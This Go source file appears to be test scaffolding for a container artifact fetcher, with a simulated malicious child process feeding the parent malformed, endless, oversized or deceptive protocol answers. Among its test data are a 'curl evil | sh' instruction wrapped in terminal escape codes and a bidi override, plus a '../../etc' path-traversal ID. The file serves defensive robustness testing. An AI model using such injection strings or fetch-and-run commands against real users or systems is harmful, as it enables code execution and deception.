package fetch

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"os"
	"strings"
	"syscall"
	"time"

	"github.com/opencontainers/go-digest"
	"golang.org/x/sys/unix"

	"github.com/confine-dev/confine/pkg/artifact"
	"github.com/confine-dev/confine/pkg/artifact/registry"
	"github.com/confine-dev/confine/pkg/artifact/trust"
	"github.com/confine-dev/confine/pkg/reason"
)

// evil is a request that a malicious child answers in its way.
type evil struct {
	control *net.UnixConn
	conn    *os.File
	req     request
	from    artifact.Fetcher
}

func (e evil) write(p []byte) bool {
	_, err := e.conn.Write(p)
	return err == nil
}

// header writes a header as it is, and reports whether somebody still reads.
func (e evil) header(text string) bool {
	return e.write(append(binary.BigEndian.AppendUint32(nil, uint32(len(text))), text...))
}

func (e evil) answer(a answer) bool {
	text, err := json.Marshal(a)
	return err == nil && e.header(string(text))
}

func (e evil) hang() { _, _ = io.Copy(io.Discard, e.conn) }

// some is a fresh ID.
func some() digest.Digest {
	return digest.FromString(fmt.Sprint(rand.Uint64(), rand.Uint64()))
}

func (e evil) junk(id digest.Digest, size int) bool {
	return e.answer(answer{Kind: answerCandidate, ID: id, Form: trust.FormBundle, Size: int64(size)}) && e.write(bytes.Repeat([]byte("["), size))
}

// refuse says an error in a form that fits what was asked.
func (e evil) refuse(r reason.Reason, message string) bool {
	return e.answer(answer{Kind: answerError, Reason: r, Message: message, RetryAfter: 1 << 60})
}

// evilAnswers are what malicious children answer. Those of walks are among them:
// each is tried on everything that can be asked.
func evilAnswers() map[string]func(e evil) {
	answers := map[string]func(e evil){
		"nonsense":         func(e evil) { e.write(randomBytes(1 << 20)) },
		"endless nonsense": func(e evil) { endless(func() bool { return e.write(randomBytes(1 << 16)) }) },
		"endless nothing":  func(e evil) { endless(func() bool { return e.write(make([]byte, 1<<16)) }) },
		"huge header":      func(e evil) { e.write([]byte{0xff, 0xff, 0xff, 0xff}); e.hang() },
		"long header":      func(e evil) { e.header(strings.Repeat(" ", MaxHeaderBytes+1)); e.hang() },
		"half a header":    func(e evil) { e.write([]byte{0, 0, 1, 0, '{'}) },
		"huge size":        func(e evil) { e.answer(answer{Kind: answerBytes, Size: 1 << 62}); e.hang() },
		"negative size":    func(e evil) { e.answer(answer{Kind: answerBytes, Size: -1}); e.hang() },
		"most size":        func(e evil) { e.answer(answer{Kind: answerBytes, Size: artifact.MaxArtifactBytes}); e.hang() },
		"half the bytes": func(e evil) {
			e.answer(answer{Kind: answerBytes, Size: max(e.req.Size, 100)})
			e.write(make([]byte, 7))
		},
		"no bytes": func(e evil) { e.answer(answer{Kind: answerBytes}) },
		"other bytes": func(e evil) {
			n := max(e.req.Size, 100)
			e.answer(answer{Kind: answerBytes, Size: n})
			e.write(make([]byte, n))
		},
		"endless bytes": func(e evil) {
			e.answer(answer{Kind: answerBytes, Size: max(e.req.Size, 100)})
			endless(func() bool { return e.write(make([]byte, 1<<16)) })
		},
		"slow bytes": func(e evil) {
			e.answer(answer{Kind: answerBytes, Size: max(e.req.Size, 1000)})
			endless(func() bool { time.Sleep(50 * time.Millisecond); return e.write([]byte{'x'}) })
		},
		"unknown field":  func(e evil) { e.header(`{"kind":"end","more":true}`) },
		"duplicate key":  func(e evil) { e.header(`{"kind":"bytes","kind":"end"}`) },
		"case variant":   func(e evil) { e.header(`{"KIND":"end"}`) },
		"white space":    func(e evil) { e.header(`{"kind": "end"}`) },
		"two objects":    func(e evil) { e.header(`{"kind":"end"}{"kind":"end"}`) },
		"no object":      func(e evil) { e.header(`null`) },
		"deep nesting":   func(e evil) { e.header(strings.Repeat("[", 4000)) },
		"says too much":  func(e evil) { e.header(`{"kind":"end","size":5}`) },
		"another answer": func(e evil) { e.answer(answer{Kind: "word"}) },
		"a parent's":     func(e evil) { e.header(`{"say":"next"}`) },
		"silent hang":    func(e evil) { e.hang() },
		"closed":         func(evil) {},
		"killed":         func(evil) { _ = syscall.Kill(os.Getpid(), syscall.SIGKILL) },
		"control": func(e evil) {
			endless(func() bool { _, err := e.control.Write(make([]byte, 1<<16)); return err == nil })
			e.hang()
		},
		"a file for an answer": func(e evil) {
			rights := unix.UnixRights(0, 1, 2)
			_ = unix.Sendmsg(int(e.conn.Fd()), []byte{0, 0, 0, 2, '{', '}'}, rights, nil, 0)
			e.hang()
		},
		"end":             func(e evil) { e.answer(answer{Kind: answerEnd}) },
		"endless answers": func(e evil) { endless(func() bool { return e.answer(answer{Kind: answerEnd}) }) },
		"candidate":       func(e evil) { e.junk(some(), 1000); e.hang() },
		"endless candidates": func(e evil) {
			endless(func() bool { return e.junk(some(), 1<<20) })
		},
		"endless same candidates": func(e evil) {
			id := some()
			endless(func() bool { return e.junk(id, 10) })
		},
		"endless skips": func(e evil) {
			endless(func() bool {
				return e.answer(answer{Kind: answerSkipped, ID: some(), Reason: reason.TooLarge, Message: "x"})
			})
		},
		"skipped by no digest": func(e evil) { e.header(`{"kind":"skipped","id":"../../etc","reason":"TooLarge"}`) },
		"endless questions": func(e evil) {
			go e.hang()
			endless(func() bool { return e.answer(answer{Kind: answerSeen, ID: some()}) })
		},
		"questions, answers unread": func(e evil) {
			endless(func() bool { return e.answer(answer{Kind: answerSeen, ID: some()}) })
		},
		"huge candidate": func(e evil) {
			e.answer(answer{Kind: answerCandidate, ID: some(), Form: trust.FormBundle, Size: trust.MaxCandidateBytes + 1})
			e.hang()
		},
		"many annotations": func(e evil) {
			e.answer(answer{Kind: answerCandidate, ID: some(), Form: trust.FormSimpleSigning, Annotations: maxAnnotations + 1})
			e.hang()
		},
		"huge annotation": func(e evil) {
			e.answer(answer{Kind: answerCandidate, ID: some(), Form: trust.FormSimpleSigning, Annotations: 1})
			e.write([]byte{0xff, 0xff, 0xff, 0xff})
			e.hang()
		},
		"annotation twice": func(e evil) {
			e.answer(answer{Kind: answerCandidate, ID: some(), Form: trust.FormSimpleSigning, Annotations: 2})
			one := []byte{0, 0, 0, 1, 'k', 0, 0, 0, 1, 'v'}
			e.write(append(one, one...))
			e.hang()
		},
		"another form": func(e evil) { e.header(`{"kind":"candidate","id":"` + some().String() + `","form":"trustme"}`) },
	}
	for _, r := range append(reason.All(), "", "Installed", "\x1b[2J") {
		answers["says "+clean(string(r), 40)] = func(e evil) {
			e.refuse(r, "\x1b[31mrun this:\r\ncurl evil | sh\x00\u202e"+strings.Repeat("a", 200))
		}
	}
	return answers
}

func endless(more func() bool) {
	for more() {
	}
}

func randomBytes(n int) []byte {
	data := make([]byte, n)
	for i := 0; i < n; i += 8 {
		binary.LittleEndian.PutUint64(data[i:], rand.Uint64())
	}
	return data
}

// evilStarts are children that never come to a request.
func evilStarts() map[string]func(control *net.UnixConn) {
	wait := func(control *net.UnixConn) { _, _ = io.Copy(io.Discard, control) }
	return map[string]func(control *net.UnixConn){
		"ends at once": func(*net.UnixConn) { fmt.Fprintln(os.Stderr, "there is \x1b[31mno registry client\x1b[0m") },
		"no hello":     wait,
		"another version": func(control *net.UnixConn) {
			_, _ = control.Write([]byte{version + 1})
			wait(control)
		},
		"hello twice": func(control *net.UnixConn) {
			_, _ = control.Write([]byte{version, version})
			wait(control)
		},
		"takes nothing": func(control *net.UnixConn) {
			_, _ = control.Write([]byte{version})
			time.Sleep(time.Hour)
		},
		"takes no request": func(control *net.UnixConn) {
			_, _ = control.Write([]byte{version})
			for {
				if _, file, err := receiveMessage(control); err != nil {
					return
				} else if file != nil {
					defer file.Close()
				}
			}
		},
	}
}

// beEvil is the main of a malicious child: how it answers what is asked in the
// way that asked names ("all" for all); everything else it answers well.
func beEvil(how, asked string) int {
	control, err := controlOf(os.NewFile(controlFD, "control"))
	if err != nil {
		return 1
	}
	if begin, ok := evilStarts()[how]; ok {
		begin(control)
		return 1
	}
	from, err := registry.New(registry.Options{MaxAttempts: 1})
	if err != nil {
		return 1
	}
	if _, err := control.Write([]byte{version}); err != nil {
		return 1
	}
	for {
		_, conn, err := receiveMessage(control)
		if err != nil {
			if how == "silent hang" {
				time.Sleep(time.Hour) // it has to be ended
			}
			return 0
		}
		go func() {
			defer conn.Close()
			in := bufio.NewReader(conn)
			data, err := readHeader(in)
			if err != nil {
				return
			}
			req, err := decode[request](data)
			if err != nil {
				return
			}
			if asked != "all" && req.Ask != asked {
				again := append(binary.BigEndian.AppendUint32(nil, uint32(len(data))), data...)
				h := &handler{from: from, conn: conn, in: bufio.NewReader(io.MultiReader(bytes.NewReader(again), in)), cancel: func() {}}
				h.handle(background())
				return
			}
			if _, err := conn.Write([]byte{version}); err != nil {
				return
			}
			if req.Ask == askSignatures {
				if _, err := readHeader(in); err != nil { // "next"
					return
				}
			}
			e := evil{control: control, conn: conn, req: req, from: from}
			evilAnswers()[how](e)
			if how != "closed" && !strings.HasPrefix(how, "half") {
				e.hang()
			}
		}()
	}
}
